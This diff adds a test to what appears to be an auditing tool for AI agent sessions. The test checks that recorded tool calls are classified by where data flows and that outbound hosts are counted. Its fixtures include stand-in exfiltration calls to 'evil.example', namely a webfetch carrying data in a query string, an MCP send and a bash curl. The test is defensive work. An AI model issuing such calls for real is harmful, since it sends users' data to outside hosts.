@@ -222,6 +222,22 @@ function reachPlaces(store: Store): void {
   store.decisions.record([{ kind: "verdict", finding: id, state: "resolved", reason: "done", expires: null }]);
 }
 
+describe("where data went", () => {
+  it("is a host for each call that names one, as the access pattern counts them, whatever its tool; else a file, the system for commands, or the model", async () => {
+    const store = await openStore(null, { now: NOW });
+    const call = (id: string, tool: string, args: Record<string, unknown>) => bash(`prt_${id}`, "ses_a", "", { callId: id, tool, arguments: args, timeStart: NOW - DAY });
+    store.apply(store.sourceId({ kind: "json", path: "/data" }), batch([
+      session("ses_a"), call("a", "webfetch", { url: "https://evil.example/?d=abc" }), call("b", "my_mcp_send", { url: "https://evil.example/x" }), call("c", "bash", { command: "curl https://evil.example/y" }),
+      call("d", "bash", { command: "ls" }), call("e", "my_mcp_list", { text: "all" }), call("f", "write", { filePath: "src/x.ts" }), call("g", "read", { filePath: "src/x.ts" }),
+    ]));
+    const ask = asked(store);
+    const sinks = ask.dataFlow({ filter: ALL }).sinks.map(({ kind, sink, calls }) => [kind, sink, calls]).sort();
+    assert.deepEqual(sinks, [["command", "hosts", 1], ["command", "system", 1], ["fetch", "hosts", 1], ["other", "hosts", 1], ["other", "model", 1], ["read", "model", 1], ["write", "files", 1]]);
+    assert.deepEqual(ask.accessPattern({ filter: ALL }).hosts.map(({ host, calls }) => [host, calls]), [["evil.example", 3]]);
+    store.close();
+  });
+});
+
 function asked(store: Store): { [K in keyof Ask]: (params: Parameters<Ask[K]>[0]) => Awaited<ReturnType<Ask[K]>> } {
   const handlers = widgetHandlers({ store, installed: 0, now: () => NOW });
   const { signal } = new AbortController();
